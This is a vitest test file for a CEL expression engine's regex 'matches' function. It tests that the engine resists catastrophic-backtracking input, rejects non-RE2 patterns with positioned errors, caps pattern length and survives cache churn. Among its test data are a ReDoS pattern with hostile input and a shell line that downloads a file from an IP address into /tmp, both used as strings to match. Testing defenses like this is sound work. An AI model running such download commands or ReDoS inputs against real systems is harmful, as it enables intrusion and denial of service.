import { expect, it } from 'vitest'
import { CelError, compileCel } from '../../engine/cel.ts'

const evaluate = (text: string, data: Record<string, unknown>) =>
  compileCel(text, 'any').evaluate({ id: 'a', topic: 'line', time: 0, data: data as never })

/** RegExp takes longer than the universe has for this one; a test that meets it hangs. */
const HOSTILE = `${'a'.repeat(200)}!`

it.each([
  ['data.x.matches("^(a+)+$")', false],
  ['matches(data.x, "^(a+)+$")', false],
  ['has(data.x) && !data.x.matches("^(a+)+$")', true],
  ['data.?x.orValue("").matches("^(a+)+$") ? 1 : 2', 2],
  ['data.x.matches(data.pattern)', false],
  ['[data.x.matches("^(a+)+$")]', [false]],
  ['{"y": data.x.matches("^(a+)+$")}', { y: false }],
  ['data.list.exists(y, y.matches("^(a+)+$"))', false],
  ['data.list.exists_one(y, y.matches("^(a+)+$"))', false],
  ['data.list.all(y, y.matches("^(a+)+$"))', false],
  ['data.list.filter(y, y.matches("^(a+)+$"))', []],
  ['data.list.map(y, y.matches("^(a+)+$"))', [false]],
  ['data.list.map(y, y.matches("^(a+)+$"), y)', []],
  ['cel.bind(y, data.x, y.matches("^(a+)+$"))', false],
])('is not stalled by hostile text: %s', (text, result) => {
  expect(evaluate(text, { x: HOSTILE, list: [HOSTILE], pattern: '^(a+)+$' })).toEqual(result)
})

it.each([
  ['wget', 'cd /tmp; wget http://198.51.100.7/x', true],
  ['^wget', 'cd /tmp; wget http://198.51.100.7/x', false],
  ['(?i)^WGET\\\\b', 'wget -q x', true],
  ['^\\\\p{L}+$', 'caf\u00e9', true],
  ['^.$', '\u{1f600}', true],
  ['^.$', '\ud800', true],
])('finds /%s/ in %j: %s', (pattern, x, found) => {
  expect(evaluate(`data.x.matches("${pattern}")`, { x })).toBe(found)
})

it.each([
  ['data.x.matches("(?=a)")', 15, 22],
  ['matches(data.x, "(a)\\\\1")', 16, 24],
  ['data.list.exists(y, y.matches("["))', 30, 33],
])('refuses a constant that is no RE2 syntax, at its place: %s', (text, start, end) => {
  let caught: unknown
  try {
    compileCel(text, 'bool')
  } catch (error) {
    caught = error
  }
  expect(caught).toBeInstanceOf(CelError)
  expect(caught).toMatchObject({ start, end, message: expect.stringContaining('not RE2 syntax') })
})

it('sends an event whose pattern is none, or too long to be compiled, to the error port', () => {
  const failsWith = (pattern: string) =>
    expect(() => evaluate('data.x.matches(data.pattern)', { x: 'x', pattern }))
  failsWith('(\u001b').toThrow(/^not RE2 syntax: "missing closing \): `\(\\u\{1b\}`"$/)
  failsWith('a'.repeat(1001)).toThrow('a regular expression of 1001 characters')
})

it('keeps answering when attackers choose more patterns than are kept', () => {
  const text = 'data.x.matches(data.pattern)'
  for (let number = 0; number < 600; number++) {
    expect(evaluate(text, { x: `n${number}`, pattern: `^n${number}$` })).toBe(true)
  }
  expect(evaluate(text, { x: 'n0', pattern: '^n0$' })).toBe(true)
})

it('names the function as its author wrote it', () => {
  expect(() => compileCel('topic.matches(1)', 'bool')).toThrow(/'string\.matches\(int\)'/)
  expect(() => evaluate('data.x.matches("a")', { x: null })).toThrow(/'null\.matches\(string\)'/)
})
